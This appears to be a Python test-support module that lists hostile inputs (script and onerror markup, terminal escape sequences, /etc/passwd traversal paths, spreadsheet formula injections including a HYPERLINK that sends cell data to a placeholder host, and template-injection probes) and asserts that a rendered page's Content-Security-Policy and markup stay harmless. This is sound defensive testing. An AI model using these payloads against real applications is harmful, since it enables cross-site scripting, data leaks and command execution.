"""Texts of every kind that a program may be given, and what must not become of them where people look at them."""

from __future__ import annotations

import html.parser
import re
import unicodedata
from typing import Final

#: Run by a page that takes text for markup: it would be seen in the window's title.
MARKUP: Final = "<img src=x onerror=\"document.title='fired'\"><script>document.title='fired'</script></style></svg>"

#: Done by a terminal that is given it: a cleared screen, another title, a line that runs backwards.
ACTING: Final = "\x1b[2J\x1b]0;title\x07\u202e"

TOPICS: Final = (
    "长" * 10_000,
    "🧑‍🚀 emoji joined, 𠮷 beyond the plane",
    "right-to-left \u202e gnitirw \u2066 and isolates",
    "NUL \x00, bell \x07, escape \x1b[2J\x1b]0;title\x07, backspace \x08",
    "two\nlines\r\nand\u2028more\tof them",
    "../../etc/passwd",
    "/etc/passwd",
    '=HYPERLINK("http://h.example/?x="&A1,"click")',
    "+1+cmd|'/C calc'!A0",
    "@SUM(1+1)*cmd",
    "-rf",
    MARKUP,
    "javascript:alert(1) {{ 7*7 }} {% raw %} ${7*7} $x^2$ <%= 7 %>",
    "| a | b |\n|---|---|\n![i](http://h.example/i.png) [l](javascript:alert(1)) `code` # no heading",
    "café",
    "cafe\u0301",
    "twice",
    "twice",
)


class Elements(html.parser.HTMLParser):
    """What a page is made of: names of its elements and attributes, and where they lead."""

    def __init__(self) -> None:
        super().__init__()
        self.names: set[str] = set()
        self.attributes: set[str] = set()
        self.addresses: set[str] = set()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        """Note an element."""
        self.names.add(tag)
        self.attributes |= {name for name, _ in attrs}
        self.addresses |= {value or "" for name, value in attrs if name in {"href", "src", "xlink:href", "action"}}


def acts_on_a_terminal(text: str) -> list[str]:
    """Return the characters of a text that would do more than show themselves."""
    harmless = "\n\u200d"
    return [char for char in text if unicodedata.category(char) in {"Cc", "Cf", "Cs"} and char not in harmless]


def check_harmless(page: str) -> None:
    """A page's own policy allows no script, form, frame or address, and the page has none of them."""
    (policy,) = re.findall(r'<meta http-equiv="Content-Security-Policy" content="([^"]+)">', page)
    parts = {name: rest for name, _, rest in (part.strip().partition(" ") for part in policy.split(";")) if name}
    assert parts["default-src"] == "'none'"
    assert re.fullmatch(r"'sha256-[A-Za-z0-9+/=]+'", parts["style-src"])
    assert set(parts) <= {"default-src", "style-src", "font-src", "img-src", "base-uri", "form-action"}
    assert {parts["font-src"], parts["img-src"]} == {"data:"}
    assert {parts["base-uri"], parts["form-action"]} == {"'none'"}
    assert page.index("Content-Security-Policy") < page.index("<style")
    seen = Elements()
    seen.feed(page)
    assert not seen.names & {"script", "iframe", "object", "embed", "form", "img", "base"}
    assert not [name for name in seen.attributes if name.startswith("on") or name == "style"]
    assert not [address for address in seen.addresses if ":" in address and not address.startswith("data:,")]
